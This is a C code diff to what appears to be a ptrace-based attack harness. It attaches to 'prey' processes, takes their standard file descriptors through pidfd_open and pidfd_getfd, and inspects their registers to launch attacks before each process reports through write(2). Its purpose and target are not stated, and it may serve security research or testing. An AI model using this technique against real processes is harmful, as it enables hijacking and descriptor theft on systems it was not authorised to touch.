@@ -203,6 +203,7 @@ payload_traceme(void)
 			    (r).rdx = (a)[2], (r).rcx = (a)[3],		\
 			    (r).r8 = (a)[4], (r).r9 = (a)[5])
 #define REG_NO_RESTART(r) ((r).orig_rax = (unsigned long)-1)
+#define REG_CALL(r)	((long)(r).orig_rax)
 #define PUSHED		8	/* the return address */
 #else
 #define REG_PC(r)	((r).pc)
@@ -212,6 +213,7 @@ payload_traceme(void)
 			    (r).regs[2] = (a)[2], (r).regs[3] = (a)[3],	\
 			    (r).regs[4] = (a)[4], (r).regs[5] = (a)[5])
 #define REG_NO_RESTART(r) ((void)0)
+#define REG_CALL(r)	((long)(r).regs[8])
 #define PUSHED		0
 #endif
 
@@ -746,17 +748,26 @@ catch_one(void)
 	return (-1);
 }
 
-static int
+static void
 take_descriptors(struct prey *p)
 {
-	int pidfd = (int)syscall(SYS_pidfd_open, p->pid, 0), taken = 0;
+	int pidfd = (int)syscall(SYS_pidfd_open, p->pid, 0);
 
-	for (int i = 0; i < 3; i++) {
+	for (int i = 0; i < 3; i++)
 		p->fds[i] = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
-		taken += p->fds[i] != -1;
-	}
 	close(pidfd);
-	return (taken);
+}
+
+/* It reports by its only write(2), and then closes that descriptor. */
+static bool
+has_reported(const struct prey *p)
+{
+	struct user_regs_struct regs;
+	struct iovec iov = { &regs, sizeof(regs) };
+
+	return (p->fds[ORDER_FD_REPORT] == -1 || ptrace(PTRACE_GETREGSET,
+	    p->pid, (void *)NT_PRSTATUS, &iov) == -1 ||
+	    REG_CALL(regs) == __NR_write);
 }
 
 static void
@@ -854,7 +865,8 @@ watch(const char *needle)
 		struct prey p = { .pid = pid };
 
 		seen.caught++;
-		seen.early += take_descriptors(&p) > 0;
+		take_descriptors(&p);
+		seen.early += !has_reported(&p);
 		drop_descriptors(&p);
 		look(pid, needle);
 		ptrace(PTRACE_DETACH, pid, 0, 0);
@@ -910,10 +922,13 @@ attack(const char *list, unsigned int times)
 	while (seen.early < max && (pid = catch_one()) != -1) {
 		struct prey p = { .pid = pid };
 
-		if (take_descriptors(&p) > 0)
+		take_descriptors(&p);
+		if (!has_reported(&p)) {
 			attack_one(&p, nth_attack(list, seen.early));
-		else
-			ptrace(PTRACE_DETACH, pid, 0, 0);
+			continue;
+		}
+		drop_descriptors(&p);
+		ptrace(PTRACE_DETACH, pid, 0, 0);
 	}
 	while (!over())
 		pause_ms(20);
